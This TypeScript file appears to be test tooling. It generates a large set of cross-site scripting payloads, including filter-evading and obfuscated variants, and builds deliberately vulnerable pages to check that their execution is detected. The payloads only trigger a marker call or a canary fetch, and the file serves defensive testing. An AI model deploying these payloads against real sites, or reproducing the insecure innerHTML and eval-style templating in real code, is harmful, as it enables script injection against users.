/**
 * Strings that execute where a page is careless, made from kinds of mistakes and of disguises. Each
 * calls `hit(its number)`, and names the mistake that it needs: so a careless page can be built for
 * each, to prove that an execution would be seen.
 */

/** Where a careless page would put the string. */
export type Mistake =
  /** As HTML. */
  | 'html'
  /** Into an attribute in double quotes, or single ones, or none. */
  | 'double'
  | 'single'
  | 'bare'
  /** As the address of a link, which is clicked. */
  | 'link'
  /** As the address of a frame. */
  | 'frame'
  /** Into a string of a script. */
  | 'script'
  /** Into the text of a title, a text area, a style or a comment. */
  | 'rcdata'
  /** Through a template of double braces. */
  | 'template'
  /** Through Markdown of the naive kind. */
  | 'markdown'
  /** Parsed as HTML, written out, and parsed again. */
  | 'twice';

export interface Hostile {
  id: number;
  mistake: Mistake;
  text: string;
}

type Make = (call: string) => string;

/** Ways to call without being recognised. `N` is the number. */
const CALLS: readonly string[] = [
  'hit(N)',
  'window.hit(N)',
  "self['hi'+'t'](N)",
  'top.hit(N)',
  'hit`N`',
  'hit&#40;N&#41;',
  'hit&lpar;N&rpar;',
  '\\u0068it(N)',
];
/** Those that need no decoding of HTML, for places where there is none. */
const PLAIN = CALLS.filter((call) => !call.includes('&'));

const HTML: readonly Make[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src/onerror=${call}>`,
  (call) => `<IMG SRC=x OnErRoR="${call}">`,
  (call) => `<img src="x" onerror\n=\n${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<div onmouseover=${call}>over me</div>`,
  (call) => `<b onclick=${call}>press</b>`,
  (call) => `<a href=x onpointerdown=${call}>press</a>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=data:text/css, onload=${call}>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (call) => `<math><mtext></mtext><img src=x onerror=${call}></math>`,
  (call) => `</p></div><img src=x onerror=${call}>`,
  (call) => `\u202e<img src=x onerror=${call}>\u202c`,
  (call) => `\u200b\u200d<img src=x onerror=${call}>\ufeff`,
  (call) => `Ada <img src=x onerror=${call}> 🌵 مرحبا`,
];

const SCRIPTS: readonly Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT >${call}</SCRIPT >`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt></scr</script><script>${call}</script>`,
  (call) => `<script>/*\n*/${call}//</script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<iframe srcdoc="<script>top.hit(N)</script>" title="${call.length}"></iframe>`,
];

const DOUBLE: readonly Make[] = [
  (call) => `" autofocus onfocus="${call}`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `"/><svg onload=${call}>`,
  (call) => `x"onclick="${call}`,
];

const SINGLE: readonly Make[] = [
  (call) => `' autofocus onfocus='${call}`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `' onpointerdown='${call}' x='`,
];

const BARE: readonly Make[] = [
  (call) => `x onmouseover=${call}`,
  (call) => `x autofocus onfocus=${call} y`,
  (call) => `><img src=x onerror=${call}>`,
];

const LINKS: readonly Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `javascript://shop.example/%0A${call}`,
  (call) => `javascript:/*https://shop.example*/${call}`,
];

const FRAMES: readonly Make[] = [
  (call) => `javascript:parent.${call.replace(/^(window|top|self)\b\.?/, '')}`,
  () => 'data:text/html,<script>fetch("CANARY/frame/N")</script>',
  () => `data:text/html;base64,BASE64`,
];

const IN_SCRIPTS: readonly Make[] = [
  (call) => `";${call};//`,
  (call) => `"-${call}-"`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</script><img src=x onerror=${call}>`,
];

const RCDATA: readonly Make[] = [
  (call) => `</title></textarea></style><img src=x onerror=${call}>`,
  (call) => `--></textarea><svg onload=${call}>`,
  (call) => `]]></textarea><script>${call}</script>`,
];

const TEMPLATES: readonly Make[] = [
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `{{${call}}}`,
  (call) => `{{'a'.constructor.constructor('${call}')()}}`,
  (call) => `{{[].filter.constructor("${call}")()}}`,
];

const MARKDOWN: readonly Make[] = [
  (call) => `[press](javascript:${call})`,
  (call) => `[press](JAVASCRIPT:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `[x](https://shop.example"onmouseover="${call})`,
];

const TWICE: readonly Make[] = [
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<p title="&lt;svg onload=${call}&gt;">x</p>&lt;svg onload=${call}&gt;`,
];

const KINDS: readonly [Mistake, readonly Make[], readonly string[]][] = [
  ['html', HTML, CALLS],
  ['html', SCRIPTS, PLAIN],
  ['double', DOUBLE, CALLS],
  ['single', SINGLE, CALLS.filter((call) => !call.includes("'"))],
  ['bare', BARE, CALLS.filter((call) => !call.includes("'"))],
  ['link', LINKS, PLAIN],
  ['frame', FRAMES, ['hit(N)']],
  ['script', IN_SCRIPTS, PLAIN],
  ['rcdata', RCDATA, PLAIN],
  ['template', TEMPLATES, PLAIN.filter((call) => !/['`]/.test(call))],
  ['markdown', MARKDOWN, PLAIN.filter((call) => !/[`]/.test(call))],
  ['twice', TWICE, PLAIN],
];

/** All of them. `canary` is an address that must never be asked for anything. */
export function hostileStrings(canary: string): Hostile[] {
  const made: Hostile[] = [];
  for (const [mistake, makes, calls] of KINDS) {
    for (const make of makes) {
      for (const call of calls) {
        const id = made.length;
        const document = `<script>fetch("${canary}/frame/${id}")</script>`;
        const text = make(call)
          .replaceAll('BASE64', Buffer.from(document).toString('base64'))
          .replaceAll('CANARY', canary)
          .replaceAll('(N)', `(${id})`)
          .replaceAll(/`N`|\/N"|&#40;N&#41;|&lpar;N&rpar;/g, (at) => at.replace('N', String(id)));
        if (!made.some((other) => other.text === text)) made.push({ id, mistake, text });
      }
    }
  }
  return made;
}

/** A page that makes the mistake. It is written as carelessly as its kind is in the wild. */
export function carelessPage({ mistake, text }: Hostile): string {
  const head = '<!doctype html><script>window.hit = (n) => top.hit(+n)</script>';
  switch (mistake) {
    case 'html':
      return `${head}<div>${text}</div>`;
    case 'double':
      return `${head}<input value="${text}">`;
    case 'single':
      return `${head}<input value='${text}'>`;
    case 'bare':
      return `${head}<input value=${text}>`;
    case 'link':
      return `${head}<a href="${text.replaceAll('"', '&quot;')}">press</a>`;
    case 'frame':
      return `${head}<iframe src="${text.replaceAll('"', '&quot;')}"></iframe>`;
    case 'script':
      return `${head}<script>window.said = "${text}";</script>`;
    case 'rcdata':
      return `${head}<textarea>${text}</textarea>`;
    case 'template':
      return `${head}<p id="t"></p><script>${careless(text, TEMPLATE)}</script>`;
    case 'markdown':
      return `${head}<p id="t"></p><script>${careless(text, LINK)}</script>`;
    case 'twice':
      return `${head}<p id="t"></p><script>${careless(text, AGAIN)}</script>`;
  }
}

const TEMPLATE = 'text.replace(/{{(.*)}}/g, (_, code) => Function("with (this) return " + code)())';
const LINK = String.raw`text.replace(/(!?)\[(.*)\]\((.*)\)/, (_, picture, name, at) => picture ? '<img src="' + at + '">' : '<a href="' + at + '">' + name + '</a>')`;
const AGAIN =
  '(() => { const box = document.createElement("div"); box.innerHTML = text; return box.innerHTML + box.textContent; })()';

function careless(text: string, then: string): string {
  const quoted = JSON.stringify(text).replaceAll('<', '\\u003c');
  return `const text = ${quoted}; document.getElementById("t").innerHTML = ${then};`;
}
